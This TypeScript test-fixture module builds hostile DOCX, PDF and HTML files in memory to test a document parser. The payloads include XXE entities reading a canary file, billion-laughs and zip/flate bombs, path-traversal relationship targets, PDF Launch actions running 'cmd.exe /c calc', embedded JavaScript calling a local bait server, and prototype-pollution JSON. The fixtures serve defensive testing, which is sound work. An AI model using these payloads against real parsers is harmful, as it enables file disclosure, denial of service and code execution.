/**
 * Documents that mean harm, made in memory: none of them is kept as a file, and none is anybody else's. Those that reach
 * out do so for a {@link Bait}, which a test can watch.
 */
import { constants, crc32, deflateRawSync, deflateSync } from 'node:zlib';

/** What a document may try to reach: a server of the test's own, and a file whose words no record may hold. */
export interface Bait {
  /** `http://127.0.0.1:PORT` */
  readonly url: string;
  /** The absolute path of the file. */
  readonly canary: string;
}

/** What each advert says, where it is harmless enough to be read. */
export const LINES = ['Night Porter', 'Salary: £12.60 per hour', 'Closing date: 3 May 2027'];
const MIB = 2 ** 20;

/**
 * So many MiB of one text, deflated, without ever holding them: a block of a whole MiB that ends on a byte is written
 * again and again.
 */
export function deflatedBomb(mebibytes: number, text = ' '): Buffer {
  const block = deflateRawSync(Buffer.alloc(MIB, text), { level: 9, finishFlush: constants.Z_FULL_FLUSH });
  return Buffer.concat([...Array<Buffer>(mebibytes).fill(block), Buffer.from([3, 0])]);
}

// --- Archives

/** A part of an archive, and the lies that may be told of it. */
export interface Part {
  readonly name: string;
  readonly content?: string | Buffer;
  /** The deflated bytes, where they are made already. */
  readonly packed?: Buffer;
  /** The size that the file says it inflates to. */
  readonly size?: number;
  /** The name that stands before the bytes, where it is another one. */
  readonly localName?: string;
  /** General purpose flags: 1 is for encryption. */
  readonly flags?: number;
  readonly extra?: Buffer;
  /** The part whose bytes it has, by its place. */
  readonly sameAs?: number;
}

/** A zip archive; `count` and `directorySize` are what its end says of its directory. */
export function zip(parts: readonly Part[], lies: { count?: number; directorySize?: number } = {}): Buffer {
  const pieces: Buffer[] = [];
  const directory: Buffer[] = [];
  const starts: number[] = [];
  let length = 0;
  for (const part of parts) {
    const content = Buffer.from(part.content ?? '');
    const packed = part.packed ?? deflateRawSync(content);
    const name = Buffer.from(part.name);
    const shared = Buffer.alloc(26);
    shared.writeUInt16LE(20, 0);
    shared.writeUInt16LE(part.flags ?? 0, 2);
    shared.writeUInt16LE(8, 4);
    shared.writeUInt32LE(crc32(content), 10);
    shared.writeUInt32LE(packed.length, 14);
    shared.writeUInt32LE(part.size ?? content.length, 18);
    starts.push(part.sameAs === undefined ? length : (starts[part.sameAs] ?? 0));
    if (part.sameAs === undefined) {
      const localName = Buffer.from(part.localName ?? part.name);
      const local = Buffer.from(shared);
      local.writeUInt16LE(localName.length, 22);
      pieces.push(Buffer.from('PK\x03\x04'), local, localName, packed);
      length += 30 + localName.length + packed.length;
    }
    const extra = part.extra ?? Buffer.alloc(0);
    shared.writeUInt16LE(name.length, 22);
    shared.writeUInt16LE(extra.length, 24);
    const rest = Buffer.alloc(14);
    rest.writeUInt32LE(starts.at(-1) ?? 0, 10);
    directory.push(Buffer.from('PK\x01\x02\x14\x00'), shared, rest, name, extra);
  }
  const list = Buffer.concat(directory);
  const end = Buffer.alloc(22);
  end.write('PK\x05\x06', 'latin1');
  const count = (lies.count ?? parts.length) % 2 ** 16;
  end.writeUInt16LE(count, 8);
  end.writeUInt16LE(count, 10);
  end.writeUInt32LE(lies.directorySize ?? list.length, 12);
  end.writeUInt32LE(length, 16);
  return Buffer.concat([...pieces, list, end]);
}

/** The extra field with which Info-ZIP says a name in UTF-8. */
export function unicodePath(name: string, said: string): Buffer {
  const head = Buffer.alloc(9);
  head.writeUInt16LE(0x7075, 0);
  head.writeUInt16LE(5 + Buffer.byteLength(said), 2);
  head.writeUInt8(1, 4);
  head.writeUInt32LE(crc32(name), 5);
  return Buffer.concat([head, Buffer.from(said)]);
}

const W = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"';
const R = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships';
const PACKAGE = 'http://schemas.openxmlformats.org/package/2006';

export const paragraph = (text: string) => `<w:p><w:r><w:t>${text}</w:t></w:r></w:p>`;
export const BODY = LINES.map(paragraph).join('');
export const MAIN = 'word/document.xml';

/** A main part's XML; `head` stands before its root. */
export const mainXml = (body: string, head = '', attributes = '') =>
  `<?xml version="1.0"?>${head}<w:document ${W} xmlns:r="${R}"${attributes}><w:body>${body}</w:body></w:document>`;

export const relationships = (links: string) =>
  `<?xml version="1.0"?><Relationships xmlns="${PACKAGE}/relationships">${links}</Relationships>`;

let links = 0;
export const link = (type: string, target: string, mode = '') =>
  `<Relationship Id="r${++links}" Type="${R}/${type}" Target="${target}"${mode && ` TargetMode="${mode}"`}/>`;

/** What every Word document has before its main part. */
export const FRONT: readonly Part[] = [
  {
    name: '[Content_Types].xml',
    content: `<?xml version="1.0"?><Types xmlns="${PACKAGE}/content-types"><Default Extension="xml" ContentType="application/xml"/><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Override PartName="/${MAIN}" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/></Types>`,
  },
  { name: '_rels/.rels', content: relationships(link('officeDocument', MAIN)) },
];
export const ADVERT_PART: Part = { name: MAIN, content: mainXml(BODY) };

/** A Word document with its main part's XML, and more parts and relationships. */
export const docx = (main: string, more: readonly Part[] = [], ties = '') =>
  zip([
    ...FRONT,
    { name: MAIN, content: main },
    { name: 'word/_rels/document.xml.rels', content: relationships(ties) },
    ...more,
  ]);

/** So much text that no packing makes it a hundredth: hexadecimal digits by a simple rule. */
function noise(length: number): string {
  let state = 1;
  const digits = Buffer.alloc(length);
  for (let at = 0; at < length; at++) {
    state = (Math.imul(state, 1_103_515_245) + 12_345) >>> 0;
    digits[at] = 97 + (state >>> 28);
  }
  return digits.toString('latin1');
}

/** Text that packs to something like a fiftieth. */
export const nearlyNoise = (mebibytes: number) =>
  `${noise(2048)}${'y'.repeat(62 * 1024)}`.repeat(16 * mebibytes).slice(0, mebibytes * MIB);

/** XML that reaches for the bait, or grows beyond all measure. */
export function xmlDocuments({ url, canary }: Bait): Record<string, Buffer> {
  const doctype = (inside: string) => `<!DOCTYPE w:document [${inside}]>`;
  const laughs = [...Array(30).keys()].map((level) => `<!ENTITY l${level + 1} "${`&l${level};`.repeat(10)}">`);
  // Each element has an attribute that packs badly, or its archive would be refused before its XML is read.
  const letters = noise(1_600_000);
  const nested = (open: string, close: string, depth = 100_000) => {
    const opening = (level: number) => open.replace('>', ` w:x="${letters.slice(level * 16, level * 16 + 16)}">`);
    const inside = [...Array(depth).keys()].map(opening).join('');
    return docx(mainXml(`${BODY}${inside}${paragraph('deep')}${close.repeat(depth)}`));
  };
  const picture = (kind: string, id: string) =>
    `<w:p><w:r><w:drawing><wp:inline xmlns:wp="http://schemas.openxmlformats.org/drawingml/2006/wordprocessingDrawing"><wp:docPr id="1" name="p" descr="p"/><a:graphic xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main"><a:graphicData uri="http://schemas.openxmlformats.org/drawingml/2006/picture"><pic:pic xmlns:pic="http://schemas.openxmlformats.org/drawingml/2006/picture"><pic:blipFill><a:blip r:${kind}="${id}"/></pic:blipFill></pic:pic></a:graphicData></a:graphic></wp:inline></w:drawing></w:r></w:p>`;
  const external = (id: string, type: string, target: string) =>
    `<Relationship Id="${id}" Type="${R}/${type}" Target="${target}" TargetMode="External"/>`;
  const everywhere = (id: string, type: string) =>
    external(`${id}h`, type, `${url}/${type}`) + external(`${id}f`, type, `file://${canary}`);
  return {
    'entity-file': docx(mainXml(BODY + paragraph('&x;'), doctype(`<!ENTITY x SYSTEM "file://${canary}">`))),
    'entity-http': docx(mainXml(BODY + paragraph('&x;'), doctype(`<!ENTITY x SYSTEM "${url}/entity">`))),
    'entity-unused': docx(
      mainXml(BODY, doctype(`<!ENTITY x SYSTEM "file://${canary}"><!ENTITY y PUBLIC "y" "${url}/public">`)),
    ),
    'entity-parameter': docx(
      mainXml(BODY, doctype(`<!ENTITY % a SYSTEM "file://${canary}"><!ENTITY % b SYSTEM "${url}/dtd"> %a; %b;`)),
    ),
    'doctype-external': docx(mainXml(BODY, `<!DOCTYPE w:document SYSTEM "${url}/word.dtd">`)),
    'entity-in-rels': docx(
      mainXml(BODY),
      [
        {
          name: 'word/styles.xml',
          content: `<?xml version="1.0"?>${doctype(`<!ENTITY x SYSTEM "file://${canary}">`)}<w:styles ${W}>&x;</w:styles>`,
        },
      ],
      link('styles', 'styles.xml'),
    ),
    'billion-laughs': docx(mainXml(BODY + paragraph('&l30;'), doctype(`<!ENTITY l0 "ha">${laughs.join('')}`))),
    'quadratic-entity': docx(
      mainXml(BODY + paragraph('&q;'.repeat(100_000)), doctype(`<!ENTITY q "${noise(100_000)}">`)),
    ),
    'nested-paragraphs': nested('<w:p>', '</w:p>'),
    'nested-tables': nested('<w:tbl><w:tr><w:tc>', '</w:tc></w:tr></w:tbl>'),
    'nested-controls': nested('<w:sdt><w:sdtContent>', '</w:sdtContent></w:sdt>'),
    'nested-runs': nested('<w:p><w:r>', '</w:r></w:p>'),
    // So deep that the stack has room for it, or has none, by what was compiled before.
    'nested-somewhat': nested('<w:tbl><w:tr><w:tc>', '</w:tc></w:tr></w:tbl>', 600),
    // Nothing here lies deep in anything, though it may seem so.
    'nested-in-appearance': docx(
      mainXml(
        `${BODY}${'<w:bookmarkStart w:name="a>b"/>'.repeat(300)}<!-- ${'<w:p>'.repeat(300)} --><w:p><w:r><w:t><![CDATA[${'<w:p>'.repeat(300)}]]></w:t></w:r></w:p>`,
      ),
    ),
    'nested-a-little': nested('<w:tbl><w:tr><w:tc>', '</w:tc></w:tr></w:tbl>', 60),
    'never-closed': nested('<w:p><w:r>', ''),
    'many-attributes': docx(
      mainXml(`${BODY}<w:p ${[...Array(20_000).keys()].map((each) => `w:a${each}="${each}"`).join(' ')}/>`),
    ),
    'many-namespaces': docx(
      mainXml(BODY, '', [...Array(10_000).keys()].map((each) => ` xmlns:n${each}="urn:${each}"`).join('')),
    ),
    'external-parts': docx(
      mainXml(
        `${BODY}<w:p><w:hyperlink r:id="hyperlinkh"><w:r><w:t>here</w:t></w:r></w:hyperlink></w:p>${picture('link', 'imageh')}${picture('link', 'imagef')}${picture('embed', 'imagef')}<w:altChunk r:id="aFChunkh"/><w:altChunk r:id="aFChunkf"/>`,
      ),
      [
        {
          name: 'word/settings.xml',
          content: `<w:settings ${W} xmlns:r="${R}"><w:attachedTemplate r:id="attachedTemplateh"/></w:settings>`,
        },
        {
          name: 'word/_rels/settings.xml.rels',
          content: relationships(everywhere('attachedTemplate', 'attachedTemplate')),
        },
      ],
      link('settings', 'settings.xml') +
        [
          'hyperlink',
          'image',
          'aFChunk',
          'subDocument',
          'header',
          'footer',
          'styles',
          'numbering',
          'footnotes',
          'comments',
          'oleObject',
          'frame',
        ]
          .map((type) => everywhere(type, type))
          .join(''),
    ),
    // The same without the word that says that they are outside.
    'outside-targets': docx(
      mainXml(`${BODY}${picture('embed', 'out')}`),
      [],
      `${['header', 'styles', 'numbering', 'footnotes', 'comments']
        .map(
          (type) =>
            link(type, `file://${canary}`) + link(type, `../../../../../../../..${canary}`) + link(type, canary),
        )
        .join('')}<Relationship Id="out" Type="${R}/image" Target="${canary}"/>`,
    ),
    'main-outside': zip([
      FRONT[0] as Part,
      { name: '_rels/.rels', content: relationships(external('r1', 'officeDocument', `file://${canary}`)) },
      ADVERT_PART,
    ]),
  };
}

// --- PDF

type PdfObject = string | { readonly dictionary: string; readonly stream: Buffer | string };

/** A PDF from its objects, the first one object 1, with a table of their places. `tail` writes the end itself. */
function pdf(
  objects: readonly PdfObject[],
  options: { trailer?: (tableAt: number) => string; tail?: (starts: readonly number[], at: number) => Buffer } = {},
): Buffer {
  const pieces: Buffer[] = [];
  const starts: number[] = [];
  let length = 0;
  const put = (piece: Buffer | string) => {
    const bytes = Buffer.from(piece as string, 'latin1');
    pieces.push(bytes);
    length += bytes.length;
  };
  put('%PDF-1.7\n');
  objects.forEach((object, index) => {
    starts.push(length);
    put(`${index + 1} 0 obj\n`);
    if (typeof object === 'string') put(object);
    else {
      put(`<<${object.dictionary}/Length ${object.stream.length}>>\nstream\n`);
      put(object.stream);
      put('\nendstream');
    }
    put('\nendobj\n');
  });
  if (options.tail !== undefined) put(options.tail(starts, length));
  else {
    const table = starts.map((at) => `${String(at).padStart(10, '0')} 00000 n \n`).join('');
    const trailer = `trailer\n<</Size ${starts.length + 1}/Root 1 0 R${options.trailer?.(length) ?? ''}>>`;
    put(`xref\n0 ${starts.length + 1}\n0000000000 65535 f \n${table}${trailer}\nstartxref\n${length}\n%%EOF\n`);
  }
  return Buffer.concat(pieces);
}

const inPdf = (text: string) => text.replace('£', '\xa3').replace(/[()\\]/g, '\\$&');
/** The advert's lines as a page draws them. */
const DRAWN = LINES.map((line, index) => `BT /F 12 Tf 60 ${780 - index * 40} Td (${inPdf(line)}) Tj ET\n`).join('');
const FONT = '<</Type/Font/Subtype/Type1/BaseFont/Helvetica/Encoding/WinAnsiEncoding>>';

interface PageParts {
  readonly content?: string;
  readonly resources?: string;
  readonly catalogue?: string;
  readonly page?: string;
  readonly mediaBox?: string;
  /** Objects from number 6 on. */
  readonly more?: readonly PdfObject[];
  readonly trailer?: (tableAt: number) => string;
}

/** The first five objects of a PDF of one page: catalogue, pages, page, content (the advert and what is added), font. */
const onePage = ({
  content = '',
  resources = '',
  catalogue = '',
  page = '',
  mediaBox = '0 0 595 842',
}: PageParts): PdfObject[] => [
  `<</Type/Catalog/Pages 2 0 R${catalogue}>>`,
  '<</Type/Pages/Kids[3 0 R]/Count 1>>',
  `<</Type/Page/Parent 2 0 R/MediaBox[${mediaBox}]/Contents 4 0 R/Resources<</Font<</F 5 0 R>>${resources}>>${page}>>`,
  { dictionary: '', stream: DRAWN + content },
  FONT,
];
const pagePdf = (parts: PageParts) =>
  pdf([...onePage(parts), ...(parts.more ?? [])], parts.trailer === undefined ? {} : { trailer: parts.trailer });

/** Flate data as PDF has it, with the two bytes before it. */
const flate = (raw: Buffer) => Buffer.concat([Buffer.from([0x78, 0x9c]), raw]);

/** A PDF whose objects are in a stream of objects which, by the table, lies in itself. */
function selfContained(): Buffer {
  const inside = ['<</Type/Catalog/Pages 2 0 R>>', '<</Type/Pages/Kids[3 0 R]/Count 1>>'];
  const header = `1 0 2 ${inside[0]?.length} `;
  const objects = onePage({});
  objects[0] = 'null';
  objects[1] = 'null';
  objects.push({
    dictionary: `/Type/ObjStm/N 2/First ${header.length}/Extends 6 0 R`,
    stream: header + inside.join(''),
  });
  return pdf(objects, {
    tail: (starts, at) => {
      const row = (kind: number, second: number, third: number) => {
        const bytes = Buffer.alloc(7);
        bytes[0] = kind;
        bytes.writeUInt32BE(second, 1);
        bytes.writeUInt16BE(third, 5);
        return bytes;
      };
      const rows = Buffer.concat([
        row(0, 0, 65535),
        row(2, 6, 0),
        row(2, 6, 1),
        ...starts.slice(2, 5).map((start) => row(1, start, 0)),
        row(2, 6, 2), // the stream itself
        row(1, at, 0),
      ]);
      const head = `7 0 obj\n<</Type/XRef/Size 8/W[1 4 2]/Root 1 0 R/Length ${rows.length}>>\nstream\n`;
      return Buffer.concat([Buffer.from(head), rows, Buffer.from(`\nendstream\nendobj\nstartxref\n${at}\n%%EOF\n`)]);
    },
  });
}

/** Pages that lie in pages that lie in pages. */
function deepTree(levels: number): Buffer {
  const first = 3;
  const tree = [...Array(levels).keys()].map(
    (level) =>
      `<</Type/Pages/Kids[${first + level + 1} 0 R]/Count 1${level === 0 ? '' : `/Parent ${first + level - 1} 0 R`}>>`,
  );
  return pdf([
    `<</Type/Catalog/Pages ${first} 0 R>>`,
    { dictionary: '', stream: DRAWN },
    ...tree,
    `<</Type/Page/Parent ${first + levels - 1} 0 R/MediaBox[0 0 595 842]/Contents 2 0 R/Resources<</Font<</F<</Type/Font/Subtype/Type1/BaseFont/Helvetica/Encoding/WinAnsiEncoding>>>>>>>>`,
  ]);
}

function manyPages(count: number): Buffer {
  const pages = [...Array(count).keys()];
  const first = 5;
  return pdf([
    '<</Type/Catalog/Pages 2 0 R>>',
    `<</Type/Pages/Kids[${pages.map((index) => `${first + index} 0 R`).join(' ')}]/Count ${count}>>`,
    { dictionary: '', stream: DRAWN },
    FONT,
    ...pages.map(
      () => '<</Type/Page/Parent 2 0 R/MediaBox[0 0 595 842]/Contents 3 0 R/Resources<</Font<</F 4 0 R>>>>>>',
    ),
  ]);
}

const image = (dictionary: string, stream: Buffer | string): PdfObject => ({
  dictionary: `/Type/XObject/Subtype/Image/ColorSpace/DeviceRGB/BitsPerComponent 8${dictionary}`,
  stream,
});
const form = (resources: string, stream: string): PdfObject => ({
  dictionary: `/Type/XObject/Subtype/Form/BBox[0 0 99 99]/Resources<<${resources}>>`,
  stream,
});
const DRAW = 'q /X Do Q\n';

/** PDFs that reach for the bait, go round in circles or grow beyond all measure. */
export function pdfDocuments({ url, canary }: Bait): Record<string, Buffer> {
  const drawing = (...more: PdfObject[]) => pagePdf({ content: DRAW, resources: '/XObject<</X 6 0 R>>', more });
  const writing = (...more: PdfObject[]) =>
    pagePdf({ content: 'BT /G 12 Tf 60 400 Td (aaa) Tj ET\n', resources: '/Font<</F 5 0 R/G 6 0 R>>', more });
  const bomb = flate(deflatedBomb(1024));
  const withContent = (dictionary: string, stream: Buffer) => {
    const objects = onePage({});
    objects[3] = { dictionary, stream };
    return pdf(objects);
  };
  const actions = [
    `<</S/URI/URI(${url}/uri)>>`,
    `<</S/Launch/F(${canary})/Unix(${canary})/Win<</F(cmd.exe)/P(/c calc)>>>>`,
    `<</S/GoToR/F(${canary})/D[0/Fit]>>`,
    `<</S/ImportData/F<</FS/URL/F(${url}/import)>>>>`,
    `<</S/SubmitForm/F<</FS/URL/F(${url}/submit)>>>>`,
    `<</S/JavaScript/JS(app.launchURL\\("${url}/js"\\); this.submitForm\\("${url}/form"\\); new Function\\("x"\\)\\(\\);)>>`,
  ];
  const shading = (program: string) =>
    pagePdf({
      content: '/C cs 0.5 scn 0 0 9 9 re f /P sh\n',
      resources:
        '/ColorSpace<</C[/Separation/Spot/DeviceRGB 6 0 R]>>/Shading<</P<</ShadingType 2/ColorSpace/DeviceRGB/Coords[0 0 9 9]/Function 6 0 R>>>>',
      more: [{ dictionary: '/FunctionType 4/Domain[0 1]/Range[0 1 0 1 0 1]', stream: program }],
    });
  return {
    'flate-bomb': withContent('/Filter/FlateDecode', bomb),
    'flate-bomb-twice': withContent('/Filter[/FlateDecode/FlateDecode]', deflateSync(bomb, { level: 9 })),
    'flate-bomb-text': withContent('/Filter/FlateDecode', flate(deflatedBomb(256, 'BT /F 9 Tf (a) Tj ET '))),
    'font-bomb': writing(
      '<</Type/Font/Subtype/TrueType/BaseFont/B/FontDescriptor 7 0 R/FirstChar 97/LastChar 97/Widths[500]>>',
      '<</Type/FontDescriptor/FontName/B/Flags 32/FontFile2 8 0 R>>',
      { dictionary: '/Filter/FlateDecode', stream: flate(deflatedBomb(1024, '\0')) },
    ),
    'image-bomb': drawing(image('/Width 20000/Height 17000/Filter/FlateDecode', bomb)),
    'image-giant': drawing(image('/Width 100000/Height 100000', 'few bytes')),
    'image-giant-inline': pagePdf({
      content: 'BI /W 100000 /H 100000 /CS /RGB /BPC 8 ID few bytes EI\n',
    }),
    'image-giant-fax': drawing(
      image('/Width 100000/Height 100000/Filter/CCITTFaxDecode/DecodeParms<</K -1/Columns 100000/Rows 100000>>', 'few'),
    ),
    'page-giant': pagePdf({ mediaBox: '0 0 1000000000 1000000000' }),
    'page-endless': pagePdf({ mediaBox: '-1e308 -1e308 1e308 1e308', page: '/UserUnit 1e300/Rotate 7' }),
    'pages-loop': pdf([
      '<</Type/Catalog/Pages 2 0 R>>',
      '<</Type/Pages/Kids[3 0 R]/Count 9>>',
      '<</Type/Pages/Kids[2 0 R]/Count 9/Parent 2 0 R>>',
    ]),
    'pages-self': pdf(['<</Type/Catalog/Pages 1 0 R/Kids[1 0 R]/Count 1000000000>>']),
    'pages-deep': deepTree(10_000),
    'pages-many': manyPages(100_000),
    'parent-loop': pagePdf({ page: '/Parent 3 0 R' }),
    'xref-loop': pagePdf({ trailer: (tableAt) => `/Prev ${tableAt}` }),
    'object-stream-self': selfContained(),
    'length-self': withContent('/Length 4 0 R', Buffer.from(DRAWN)),
    'reference-loop': pdf(['<</Type/Catalog/Pages 2 0 R>>', '3 0 R', '2 0 R']),
    'form-self': drawing(form('/XObject<</X 6 0 R>>', DRAW)),
    'form-mutual': drawing(form('/XObject<</X 7 0 R>>', DRAW), form('/XObject<</X 6 0 R>>', DRAW)),
    // As with the laughs: each draws the next ten times.
    'form-laughs': drawing(
      ...[...Array(12).keys()].map((level) =>
        form(level === 11 ? '' : `/XObject<</X ${level + 7} 0 R>>`, DRAW.repeat(10)),
      ),
    ),
    'font-loop': writing(
      '<</Type/Font/Subtype/Type0/BaseFont/L/Encoding/Identity-H/DescendantFonts[6 0 R]/ToUnicode 6 0 R>>',
    ),
    'font-loop-cmap': writing(
      '<</Type/Font/Subtype/Type0/BaseFont/L/Encoding 7 0 R/ToUnicode 7 0 R/DescendantFonts[<</Type/Font/Subtype/CIDFontType2/BaseFont/L/CIDSystemInfo<</Registry(Adobe)/Ordering(Identity)/Supplement 0>>>>]>>',
      {
        dictionary: '/Type/CMap/CMapName/L/UseCMap 7 0 R',
        stream: '1 begincodespacerange <00> <ff> endcodespacerange',
      },
    ),
    'font-loop-type3': writing(
      '<</Type/Font/Subtype/Type3/FontBBox[0 0 9 9]/FontMatrix[1 0 0 1 0 0]/FirstChar 97/LastChar 97/Widths[9]/Encoding<</Differences[97/a]>>/CharProcs<</a 7 0 R>>/Resources<</Font<</G 6 0 R>>>>>>',
      { dictionary: '', stream: '9 0 d0 BT /G 9 Tf (aaa) Tj ET' },
    ),
    'cmap-wide': writing('<</Type/Font/Subtype/Type1/BaseFont/Helvetica/ToUnicode 7 0 R>>', {
      dictionary: '',
      stream:
        '/CMapName /W def 1 begincodespacerange <00000000> <ffffffff> endcodespacerange 1 beginbfrange <00000000> <ffffffff> <0041> endbfrange 1 begincidrange <00000000> <ffffffff> 0 endcidrange',
    }),
    'operators-million': pagePdf({ content: '1 0 0 1 0 0 cm\n'.repeat(1_000_000) }),
    'operators-saved': pagePdf({ content: 'q\n'.repeat(1_000_000) }),
    'arrays-deep': pagePdf({ content: `${'['.repeat(200_000)} 0 Tc\n` }),
    'dictionaries-deep': pagePdf({ page: `/X ${'<</A '.repeat(100_000)}` }),
    postscript: shading('{ dup 2 copy exp sub { 3 -1 roll } { pop 0 } ifelse 100000 1 roll 1000000000 copy }'),
    'postscript-deep': shading('{'.repeat(100_000)),
    'postscript-words': shading('{ ); process.exit(7); ( constructor __proto__ 0 0 0 }'),
    javascript: pagePdf({
      catalogue: `/OpenAction ${actions[5]}/AA<</WC ${actions[5]}>>/Names<</JavaScript<</Names[(a) ${actions[5]}]>>>>`,
      page: `/AA<</O ${actions[5]}/C ${actions[5]}>>`,
    }),
    actions: pagePdf({
      catalogue: `/OpenAction ${actions[1]}/AA<</WC ${actions[3]}/DS ${actions[4]}>>/URI<</Base(${url}/base)>>`,
      page: `/AA<</O ${actions[2]}>>/Annots[${actions.map((action) => `<</Type/Annot/Subtype/Link/Rect[0 0 99 99]/A ${action}/AA<</E ${action}/PO ${action}>>>>`).join('')}]`,
    }),
    'files-embedded': pagePdf({
      catalogue: '/Names<</EmbeddedFiles<</Names[(bomb) 6 0 R]>>>>/AF[6 0 R]',
      more: [
        '<</Type/Filespec/F(bomb.exe)/EF<</F 7 0 R>>>>',
        { dictionary: '/Type/EmbeddedFile/Filter/FlateDecode', stream: bomb },
      ],
    }),
    'stream-outside': withContent(`/F(${canary})/FFilter/FlateDecode`, Buffer.from(DRAWN)),
    'stream-outside-url': withContent(`/F<</FS/URL/F(${url}/stream)>>`, Buffer.from(DRAWN)),
    'cmap-outside': writing(
      `<</Type/Font/Subtype/Type0/BaseFont/L/Encoding/..#2f..#2f..${canary.replaceAll('/', '#2f')}/DescendantFonts[<</Type/Font/Subtype/CIDFontType2/BaseFont/L/CIDSystemInfo<</Registry(Adobe)/Ordering(Japan1)/Supplement 0>>>>]>>`,
    ),
  };
}

/** Pages that ask for what is elsewhere. */
export function htmlDocuments({ url, canary }: Bait): Record<string, Buffer> {
  const file = `file://${canary}`;
  const page = (head: string, body: string) =>
    Buffer.from(
      `<!doctype html><html><head>${head}</head><body>${body}${LINES.map((line) => `<p>${line}</p>`).join('')}</body></html>`,
    );
  const asking = (target: string) =>
    `<img src="${target}" srcset="${target} 2x"><iframe src="${target}"></iframe><object data="${target}"></object><embed src="${target}"><video src="${target}"></video><script src="${target}"></script><svg><image href="${target}"/><use href="${target}#a"/></svg><form action="${target}"><input autofocus onfocus="fetch('${target}')"></form>`;
  return {
    asking: page(
      `<base href="${url}"><link rel="stylesheet" href="${url}/css"><link rel="import" href="${file}"><meta http-equiv="refresh" content="0; url=${url}/refresh"><style>@import "${url}/import";</style>`,
      asking(`${url}/body`) + asking(file),
    ),
    running: page(
      `<script>require('fs').readFileSync('${canary}')</script>`,
      `<script type="module">import '${url}/m.js'</script><p onclick="fetch('${url}')">Nights</p>`,
    ),
    data: page(
      `<script type="application/ld+json">{"@context":"${url}/context","@type":"JobPosting","title":"Night Porter","__proto__":{"polluted":"yes"},"constructor":{"prototype":{"polluted":"yes"}},"description":"&lt;img src='${file}'&gt;"}</script>`,
      '',
    ),
    entities: Buffer.from(
      `<?xml version="1.0"?><!DOCTYPE html [<!ENTITY x SYSTEM "${file}">]><html><body>${LINES.map((line) => `<p>${line}</p>`).join('')}<p>&x;</p><xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="${file}" parse="text"/></body></html>`,
    ),
  };
}
